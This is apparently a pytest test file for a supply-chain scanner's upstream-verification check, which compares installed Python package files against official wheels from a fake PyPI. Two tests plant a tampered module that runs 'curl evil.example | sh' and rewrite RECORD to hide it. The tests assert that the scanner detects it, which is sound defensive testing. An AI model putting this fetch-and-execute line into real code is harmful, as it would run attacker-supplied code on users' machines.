"""--verify-upstream: installed files against the official wheel served by a loopback PyPI."""

from __future__ import annotations

import base64
import hashlib
import io
import zipfile
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fakepypi import FakePyPI, project, release, wheel_file
from packaging.tags import parse_tag
from packaging.utils import parse_wheel_filename

from wellcheck.artifact import open_artifact
from wellcheck.artifact.base import Tree
from wellcheck.artifact.memory import MemoryTree
from wellcheck.artifact.sdist import SdistTree
from wellcheck.checks import CheckContext, CheckResult
from wellcheck.errors import SourceError
from wellcheck.http import HttpClient, RetryPolicy
from wellcheck.inventory import collect
from wellcheck.models import ArtifactInfo, Severity
from wellcheck.pypi.interface import ReleaseFile, parse_project
from wellcheck.pypi.json_api import PyPIJsonSource, reduce_document
from wellcheck.pypi.store import PyPIStore
from wellcheck.signals.integrity import IntegrityCheck
from wellcheck.signals.upstream import UpstreamCheck
from wellcheck.signals.upstream_fetch import WheelFetcher, choose_wheel

Files = dict[str, bytes]
SITE = "python/lib/python3.12/site-packages"  # a Lambda layer's site root
NOW = datetime(2026, 11, 30, tzinfo=UTC).timestamp()
FAST = RetryPolicy(attempts=3, backoff=0.0, connect_timeout=0.5, read_timeout=0.5)

REQUESTS: Files = {
    "requests/__init__.py": b"from .api import get\n",
    "requests/api.py": b"def get(url):\n    return url\n",
    "requests/adapters.py": b"class HTTPAdapter:\n    pass\n",
}


def record_line(path: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{path},sha256={digest},{len(data)}"


def build_wheel(
    name: str, version: str, files: Files, tag: str = "py3-none-any"
) -> tuple[str, bytes]:
    """A wheel as a build backend writes it: files, METADATA, WHEEL (expanded tags), RECORD."""
    stem = f"{name.replace('-', '_')}-{version}"
    dist = f"{stem}.dist-info"
    tags = "".join(f"Tag: {t}\n" for t in sorted(str(t) for t in parse_tag(tag)))
    members = {
        **files,
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n".encode(),
        f"{dist}/WHEEL": f"Wheel-Version: 1.0\nRoot-Is-Purelib: true\n{tags}".encode(),
    }
    record = "".join(f"{record_line(p, d)}\n" for p, d in members.items()) + f"{dist}/RECORD,,\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, data in {**members, f"{dist}/RECORD": record.encode()}.items():
            zf.writestr(zipfile.ZipInfo(path, (2024, 5, 29, 15, 37, 46)), data)  # reproducible
    return f"{stem}-{tag}.whl", buffer.getvalue()


def install(
    wheel: bytes,
    *,
    site: str = SITE,
    patch: Files | None = None,
    drop: Sequence[str] = (),
) -> Files:
    """Install a wheel the way pip does; ``patch``/``drop`` change files *before* RECORD is
    written (an attacker who rewrites RECORD to match is exactly that)."""
    with zipfile.ZipFile(io.BytesIO(wheel)) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    dist = next(n.split("/")[0] for n in members if n.endswith(".dist-info/WHEEL"))
    installed: Files = {}
    for name, data in members.items():
        top, _, rest = name.partition("/")
        if name == f"{dist}/RECORD":
            continue
        if top.endswith(".data"):
            scheme, _, inner = rest.partition("/")
            if scheme == "scripts":
                installed[f"../../bin/{inner}"] = b"#!/var/lang/bin/python3.12\n" + data
            else:
                installed[inner] = data
            continue
        installed[name] = data
    installed[f"{dist}/INSTALLER"] = b"pip\n"
    installed.update(patch or {})
    for path in drop:
        installed.pop(path)
    lines = [record_line(path, data) for path, data in installed.items()]
    installed[f"{dist}/RECORD"] = ("\n".join([*lines, f"{dist}/RECORD,,"]) + "\n").encode()
    tree: Files = {}
    for path, data in installed.items():
        tree[path[len("../../") :] if path.startswith("../../") else f"{site}/{path}"] = data
    return tree


def publish(server: FakePyPI, name: str, version: str, *wheels: tuple[str, bytes]) -> None:
    files = [wheel_file(server.serve(filename, data), data) for filename, data in wheels]
    releases = server.projects.get(name, {}).get("releases", {})
    server.projects[name] = project(name, {**releases, version: files}, ["owner"])


def run(
    server: FakePyPI,
    tmp_path: Path,
    files: Files | Tree,
    *,
    offline: bool = False,
    cache: Path | None = None,
    ttl: float = 0.0,
    **options: object,
) -> tuple[CheckResult, UpstreamCheck]:
    tree = files if isinstance(files, Tree) else MemoryTree(files)
    components = collect(tree, artifact_python="3.12")
    context = CheckContext(ArtifactInfo(path="layer.zip", kind="lambda-layer"), trees=(tree,))
    store = PyPIStore(tmp_path / "pypi.sqlite3")
    source = PyPIJsonSource(
        store,
        base_url=server.url,
        ttl=1e12 if offline else ttl,
        offline=offline,
        client=HttpClient(FAST, sleep=lambda s: None),
        clock=lambda: NOW,
    )
    check = UpstreamCheck(
        source,
        cache_dir=cache or tmp_path / "cache",
        client=HttpClient(FAST, sleep=lambda s: None),
        workers=1,
        **options,  # type: ignore[arg-type]
    )
    try:
        return check.run(components, context), check
    finally:
        source.close()
        if check.client is not None:
            check.client.close()


def rules(result: CheckResult) -> list[str]:
    return sorted(f.rule for f in result.findings)


def downloads(server: FakePyPI) -> list[str]:
    return [path for path in server.requests if path.startswith("/packages/")]


@pytest.fixture
def requests_wheel(fake_pypi: FakePyPI) -> bytes:
    filename, data = build_wheel("requests", "2.32.3", REQUESTS)
    publish(fake_pypi, "requests", "2.32.3", (filename, data))
    return data


def test_a_clean_install_matches_its_wheel(
    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
) -> None:
    result, check = run(fake_pypi, tmp_path, install(requests_wheel))
    assert result.findings == ()
    assert result.skipped == ()
    assert check.downloads == 1
    assert list((tmp_path / "cache" / "wheels").glob("*.whl")) == [
        tmp_path / "cache" / "wheels" / f"{hashlib.sha256(requests_wheel).hexdigest()}.whl"
    ]


def test_a_clean_install_in_a_real_zip_matches(
    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
) -> None:
    layer = tmp_path / "layer.zip"
    with zipfile.ZipFile(layer, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, data in install(requests_wheel).items():
            zf.writestr(path, data)
    store = PyPIStore(tmp_path / "pypi.sqlite3")
    source = PyPIJsonSource(store, base_url=fake_pypi.url, client=HttpClient(FAST))
    with open_artifact(str(layer)) as opened:
        components = collect(opened.trees[0], artifact_python=opened.info.python_version)
        context = CheckContext(opened.info, trees=tuple(opened.trees))
        client = HttpClient(FAST)
        result = UpstreamCheck(source, cache_dir=tmp_path, client=client).run(components, context)
    client.close()
    source.close()
    assert (result.findings, result.skipped) == ((), ())


def test_a_tampered_file_with_a_rewritten_record_is_found(
    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
) -> None:
    evil = b"import os; os.system('curl evil.example | sh')\ndef get(url):\n    return url\n"
    files = install(requests_wheel, patch={"requests/api.py": evil})
    tree = MemoryTree(files)
    components = collect(tree, artifact_python="3.12")
    context = CheckContext(ArtifactInfo(path="layer.zip", kind="lambda-layer"), trees=(tree,))
    assert IntegrityCheck(workers=1).run(components, context).findings == ()  # RECORD agrees

    result, _ = run(fake_pypi, tmp_path, files)
    assert rules(result) == ["WC-UPSTREAM-MODIFIED"]
    finding = result.findings[0]
    assert finding.severity is Severity.HIGH
    assert finding.kind == "upstream"
    assert (finding.package, finding.version) == ("requests", "2.32.3")
    assert f"{SITE}/requests/api.py" in finding.title
    assert (finding.path, finding.line) == (f"{SITE}/requests/api.py", None)  # not METADATA
    upstream = hashlib.sha256(REQUESTS["requests/api.py"]).hexdigest()
    assert f"upstream sha256 {upstream}" in finding.evidence
    assert f"installed sha256 {hashlib.sha256(evil).hexdigest()}" in finding.evidence


def test_an_added_module_is_extra_and_a_removed_one_missing(
    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
) -> None:
    files = install(
        requests_wheel,
        patch={"requests/_telemetry.py": b"import socket\n"},
        drop=["requests/adapters.py"],
    )
    files[f"{SITE}/requests/__pycache__/api.cpython-312.pyc"] = b"\x00compiled"
    result, _ = run(fake_pypi, tmp_path, files)
    assert rules(result) == ["WC-UPSTREAM-EXTRA", "WC-UPSTREAM-MISSING"]
    extra, missing = sorted(result.findings, key=lambda f: f.rule)
    assert extra.severity is Severity.MEDIUM
    assert extra.evidence.startswith(f"{SITE}/requests/_telemetry.py is not in requests-2.32.3")
    assert extra.path == f"{SITE}/requests/_telemetry.py"
    assert missing.severity is Severity.LOW
    assert missing.path == ""  # about the distribution: its location, the metadata
    assert missing.evidence == f"{SITE}/requests/adapters.py"


def test_namespace_neighbours_are_not_extra(fake_pypi: FakePyPI, tmp_path: Path) -> None:
    nspkg = build_wheel("azure-nspkg", "3.0.2", {"azure/__init__.py": b"__path__ = []\n"})
    core = build_wheel("azure-core", "1.30.0", {"azure/core/__init__.py": b"VERSION = 1\n"})
    publish(fake_pypi, "azure-nspkg", "3.0.2", nspkg)
    publish(fake_pypi, "azure-core", "1.30.0", core)
    files = {**install(nspkg[1]), **install(core[1])}
    result, check = run(fake_pypi, tmp_path, files)
    assert (result.findings, result.skipped) == ((), ())
    assert check.downloads == 2


def test_console_scripts_and_purelib_data_are_mapped(fake_pypi: FakePyPI, tmp_path: Path) -> None:
    wheel = build_wheel(
        "black",
        "24.1.0",
        {
            "black/__init__.py": b"def main():\n    pass\n",
            "black-24.1.0.data/scripts/black": b"from black import main\nmain()\n",
            "black-24.1.0.data/purelib/blackd/__init__.py": b"PORT = 45484\n",
        },
    )
    publish(fake_pypi, "black", "24.1.0", wheel)
    clean, _ = run(fake_pypi, tmp_path, install(wheel[1]))
    assert (clean.findings, clean.skipped) == ((), ())
    patched = install(wheel[1], patch={"blackd/__init__.py": b"PORT = 1\n"})
    found, _ = run(fake_pypi, tmp_path, patched)
    assert [f.title.split(" ")[0] for f in found.findings] == [f"{SITE}/blackd/__init__.py"]


def test_the_platform_wheel_is_chosen_by_the_installed_tags(
    fake_pypi: FakePyPI, tmp_path: Path
) -> None:
    wheels = {}
    for tag in (
        "cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64",
        "cp312-cp312-manylinux_2_17_aarch64.manylinux2014_aarch64",
        "cp311-cp311-manylinux_2_17_aarch64.manylinux2014_aarch64",
    ):
        files = {
            "yaml/__init__.py": b"from ._yaml import *\n",
            "yaml/_yaml.cpython-312.so": f"\x7fELF {tag}".encode(),
        }
        wheels[tag] = build_wheel("PyYAML", "6.0.2", files, tag)
    publish(fake_pypi, "pyyaml", "6.0.2", *wheels.values())
    chosen = wheels["cp312-cp312-manylinux_2_17_aarch64.manylinux2014_aarch64"]
    result, _ = run(fake_pypi, tmp_path, install(chosen[1]))
    assert (result.findings, result.skipped) == ((), ())
    assert [path.rsplit("/", 1)[-1] for path in downloads(fake_pypi)] == [chosen[0]]


def test_no_matching_wheel_is_not_checked(fake_pypi: FakePyPI, tmp_path: Path) -> None:
    arm = build_wheel("PyYAML", "6.0.2", {"yaml/__init__.py": b""}, "cp312-cp312-linux_aarch64")
    x86 = build_wheel("PyYAML", "6.0.2", {"yaml/__init__.py": b""}, "cp312-cp312-linux_x86_64")
    publish(fake_pypi, "pyyaml", "6.0.2", x86)
    result, _ = run(fake_pypi, tmp_path, install(arm[1]))
    assert result.findings == ()
    [skip] = result.skipped
    assert skip.source == "upstream"
    assert skip.reason.startswith("no matching wheel for cp312-cp312-linux_aarch64")

    sdist = release("6.0.2", "2024-08-06T20:32:03Z", filename="pyyaml-6.0.2.tar.gz")
    sdist["packagetype"] = "sdist"
    fake_pypi.projects["pyyaml"] = project("pyyaml", {"6.0.2": [sdist]}, ["owner"])
    result, _ = run(fake_pypi, tmp_path, install(arm[1]))
    assert "no wheels (sdist only)" in result.skipped[0].reason
    assert downloads(fake_pypi) == []


def test_a_download_that_does_not_match_its_digest_is_not_trusted(
    fake_pypi: FakePyPI, tmp_path: Path
) -> None:
    filename, data = build_wheel("requests", "2.32.3", REQUESTS)
    url = fake_pypi.serve(filename, data)
    entry = wheel_file(url, data, sha256=hashlib.sha256(b"the real wheel").hexdigest())
    fake_pypi.projects["requests"] = project("requests", {"2.32.3": [entry]}, ["owner"])
    result, _ = run(fake_pypi, tmp_path, install(data))
    assert result.findings == ()
    [skip] = result.skipped
    assert "NOT the file PyPI describes" in skip.reason
    assert list((tmp_path / "cache" / "wheels").iterdir()) == []  # nothing kept


def test_server_errors_make_the_check_not_checked(
    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
) -> None:
    wheel_url = fake_pypi.projects["requests"]["releases"]["2.32.3"][0]["url"]
    fake_pypi.faults[wheel_url.removeprefix(fake_pypi.url)] = [500, 500, 500]
    result, _ = run(fake_pypi, tmp_path, install(requests_wheel))
    assert result.findings == ()
    assert [s.reason for s in result.skipped] == [f"GET {wheel_url}: HTTP 500 after 3 attempts"]
    fake_pypi.faults["requests"] = [503, 503, 503]
    result, _ = run(fake_pypi, tmp_path / "again", install(requests_wheel))
    assert [s.reason for s in result.skipped] == [
        f"GET {fake_pypi.url}/pypi/requests/json: HTTP 503 after 3 attempts"
    ]


def test_unknown_projects_and_versions_are_not_checked(
    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
) -> None:
    other = build_wheel("requests", "2.31.0", REQUESTS)
    unknown = build_wheel("acme-internal", "1.0", {"acme_internal/__init__.py": b""})
    result, _ = run(fake_pypi, tmp_path, {**install(other[1]), **install(unknown[1])})
    assert result.findings == ()
    reasons = {s.package: s.reason for s in result.skipped}
    assert reasons == {
        "requests": "version 2.31.0 is not among PyPI's releases",
        "acme-internal": "PyPI does not know acme-internal: no official wheel to compare with",
    }


def test_a_cached_wheel_is_reused_and_re_verified(
    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
) -> None:
    files = install(requests_wheel)
    run(fake_pypi, tmp_path, files)
    assert len(downloads(fake_pypi)) == 1
    again, check = run(fake_pypi, tmp_path, files)
    assert (again.findings, again.skipped, check.downloads) == ((), (), 0)
    assert len(downloads(fake_pypi)) == 1

    [cached] = (tmp_path / "cache" / "wheels").glob("*.whl")
    cached.write_bytes(b"PK tampered in the cache")
    healed, check = run(fake_pypi, tmp_path, files)
    assert (healed.findings, healed.skipped, check.downloads) == ((), (), 1)
    assert cached.read_bytes() == requests_wheel


def test_offline_uses_only_cached_wheels(
    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
) -> None:
    files = install(requests_wheel)
    run(fake_pypi, tmp_path, files)  # fills the PyPI store and the wheel cache
    seen = len(fake_pypi.requests)
    result, _ = run(fake_pypi, tmp_path, files, offline=True)
    assert (result.findings, result.skipped) == ((), ())
    assert len(fake_pypi.requests) == seen

    result, _ = run(fake_pypi, tmp_path, files, offline=True, cache=tmp_path / "empty")
    [skip] = result.skipped
    assert "not in the wheel cache (offline)" in skip.reason
    assert len(fake_pypi.requests) == seen


def test_an_oversized_download_is_refused(
    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
) -> None:
    result, _ = run(fake_pypi, tmp_path, install(requests_wheel), max_download=100)
    assert result.findings == ()
    assert "above the 100-byte download limit" in result.skipped[0].reason


def test_the_project_document_keeps_file_urls_and_types() -> None:
    doc = project(
        "requests",
        {"2.32.3": [wheel_file("https://files.example/packages/r.whl", b"wheel")]},
        ["owner"],
    )
    reduced = reduce_document(doc)
    info = parse_project("requests", reduced, datetime.now(UTC))
    [file] = info.releases["2.32.3"]
    assert (file.url, file.packagetype) == ("https://files.example/packages/r.whl", "bdist_wheel")
    assert file.sha256 == hashlib.sha256(b"wheel").hexdigest()


def test_a_document_cached_without_urls_cannot_download(tmp_path: Path) -> None:
    old = release("2.32.3", "2024-05-29T15:37:47Z", filename="requests-2.32.3-py3-none-any.whl")
    [file] = parse_project(
        "requests", project("requests", {"2.32.3": [old]}, []), datetime.now(UTC)
    ).releases["2.32.3"]
    assert isinstance(file, ReleaseFile) and file.url == ""
    fetcher = WheelFetcher(tmp_path, offline=False)
    with pytest.raises(SourceError, match="no download URL"):
        fetcher.get(file)
    assert parse_wheel_filename(file.filename)[1].public == "2.32.3"


def test_relative_file_urls_from_a_mirror_are_resolved(fake_pypi: FakePyPI, tmp_path: Path) -> None:
    filename, data = build_wheel("idna", "3.10", {"idna/__init__.py": b"from .core import *\n"})
    url = fake_pypi.serve(filename, data).removeprefix(fake_pypi.url)  # /packages/...
    entry = wheel_file(f"../..{url}", data)  # relative to /pypi/idna/json, as mirrors say
    fake_pypi.projects["idna"] = project("idna", {"3.10": [entry]}, ["owner"])
    result, check = run(fake_pypi, tmp_path, install(data))
    assert (result.findings, result.skipped, check.downloads) == ((), (), 1)
    assert downloads(fake_pypi) == [url]


def test_a_cached_document_without_urls_is_fetched_again(
    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
) -> None:
    stale = fake_pypi.projects["requests"]
    for files in stale["releases"].values():
        files[:] = [{k: v for k, v in f.items() if k != "url"} for f in files]
    store = PyPIStore(tmp_path / "pypi.sqlite3")
    store.put("requests", 200, reduce_document(stale), NOW)  # as an older wellcheck kept it
    store.close()
    publish(fake_pypi, "requests", "2.32.3", build_wheel("requests", "2.32.3", REQUESTS))
    result, check = run(fake_pypi, tmp_path, install(requests_wheel), ttl=1e9)
    assert (result.findings, result.skipped, check.downloads) == ((), (), 1)
    assert "/pypi/requests/json" in fake_pypi.requests


def _file(filename: str) -> ReleaseFile:
    when = datetime(2024, 1, 1, tzinfo=UTC)
    kind = "sdist" if filename.endswith(".tar.gz") else "bdist_wheel"
    return ReleaseFile(filename, when, "0" * 64, False, None, f"https://x/{filename}", kind)


X86 = "msgpack-1.1.0-cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64.whl"
ARM = "msgpack-1.1.0-cp312-cp312-manylinux_2_17_aarch64.manylinux2014_aarch64.whl"
MUSL_ARM = "msgpack-1.1.0-cp312-cp312-musllinux_1_2_aarch64.whl"
PURE = "msgpack-1.1.0-py3-none-any.whl"
PURE2 = "six-1.16.0-py2.py3-none-any.whl"
SDIST = "msgpack-1.1.0.tar.gz"


@pytest.mark.parametrize(
    ("files", "installed", "hint", "expected"),
    [
        ((X86, ARM, PURE), "cp312-cp312-manylinux_2_17_aarch64", None, ARM),
        ((X86, ARM, PURE), "cp312-cp312-manylinux_2_17_aarch64.manylinux2014_aarch64", None, ARM),
        ((PURE2,), "py3-none-any", None, PURE2),  # one tag in common
        ((X86, PURE), "cp312-cp312-linux_aarch64", None, None),  # built from the sdist
        ((X86, PURE), "", None, PURE),  # no WHEEL tags: only a pure wheel is safe
        ((X86, ARM), "", "aarch64", ARM),  # no WHEEL tags, a platform hint that picks one
        ((ARM, MUSL_ARM), "", "aarch64", None),  # the hint fits two: no guessing
        ((X86, ARM), "", None, None),
        ((SDIST,), "py3-none-any", None, None),
    ],
)
def test_wheel_choice(
    files: tuple[str, ...], installed: str, hint: str | None, expected: str | None
) -> None:
    tags = frozenset(parse_tag(installed)) if installed else frozenset()
    releases = tuple(_file(f) for f in files)
    choice = choose_wheel(releases, tags, python_version="3.12", platform_hint=hint)
    assert (choice.file.filename if choice else None) == expected


def test_direct_url_installs_compare_only_with_the_same_wheel(
    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
) -> None:
    wheel_url = fake_pypi.projects["requests"]["releases"]["2.32.3"][0]["url"]
    dist = f"{SITE}/requests-2.32.3.dist-info"
    pinned = install(requests_wheel)
    pinned[f"{dist}/direct_url.json"] = f'{{"url": "{wheel_url}", "archive_info": {{}}}}'.encode()
    result, _ = run(fake_pypi, tmp_path, pinned)
    assert (result.findings, result.skipped) == ((), ())

    from_git = install(requests_wheel, patch={"requests/api.py": b"# unreleased fix\n"})
    vcs = '{"url": "https://github.com/psf/requests", "vcs_info": {"vcs": "git"}}'
    from_git[f"{dist}/direct_url.json"] = vcs.encode()
    result, _ = run(fake_pypi, tmp_path, from_git)
    assert result.findings == ()
    assert result.skipped[0].reason.startswith("installed from https://github.com/psf/requests")


def test_scan_verify_upstream_fails_a_tampered_layer_that_integrity_misses(
    fake_pypi: FakePyPI, tmp_path: Path, requests_wheel: bytes
) -> None:
    import json
    import os
    import subprocess
    import sys

    evil = b"import os; os.system('curl evil.example | sh')\ndef get(url):\n    return url\n"
    layer = tmp_path / "layer.zip"
    with zipfile.ZipFile(layer, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, data in install(requests_wheel, patch={"requests/api.py": evil}).items():
            zf.writestr(path, data)
    env = dict(
        os.environ,
        WELLCHECK_PYPI_URL=fake_pypi.url,
        WELLCHECK_CACHE_DIR=str(tmp_path / "cache"),
    )
    base = [sys.executable, "-m", "wellcheck", "scan", str(layer), "--no-advisories", "-f", "json"]

    plain = subprocess.run(base, capture_output=True, text=True, env=env, check=False)
    upstream = subprocess.run(
        [*base, "--verify-upstream"], capture_output=True, text=True, env=env, check=False
    )

    # RECORD was rewritten: integrity is silent; the behaviour check reads the code itself
    plain_rules = {f["rule"] for f in json.loads(plain.stdout)["artifacts"][0]["findings"]}
    assert not {r for r in plain_rules if r.startswith("WC-INTEG-")}, plain.stdout
    assert "WC-CODE-DOWNLOAD-EXEC" in plain_rules
    assert upstream.returncode == 1, upstream.stderr
    [result] = json.loads(upstream.stdout)["artifacts"]
    modified = [f for f in result["findings"] if f["rule"] == "WC-UPSTREAM-MODIFIED"]
    assert [f["package"] for f in modified] == ["requests"]
    assert "requests/api.py" in modified[0]["evidence"]


def test_an_sdist_is_reported_not_checked(fake_pypi: FakePyPI, tmp_path: Path) -> None:
    files = {"six-1.16.0/PKG-INFO": b"Name: six\nVersion: 1.16.0\n", "six-1.16.0/six.py": b""}
    result, _ = run(fake_pypi, tmp_path, SdistTree(MemoryTree(files), "six-1.16.0"))
    assert result.findings == ()
    assert [(s.source, s.package, s.reason) for s in result.skipped] == [
        ("upstream", "six", "source distribution: no wheel layout to compare")
    ]


def test_an_egg_info_install_is_reported_not_checked(fake_pypi: FakePyPI, tmp_path: Path) -> None:
    files = {
        f"{SITE}/six-1.16.0-py3.12.egg-info/PKG-INFO": b"Metadata-Version: 1.1\nName: six\n"
        b"Version: 1.16.0\n",
        f"{SITE}/six.py": b"# six\n",
    }
    result, _ = run(fake_pypi, tmp_path, files)
    assert result.findings == ()
    assert [(s.source, s.package) for s in result.skipped] == [("upstream", "six")]
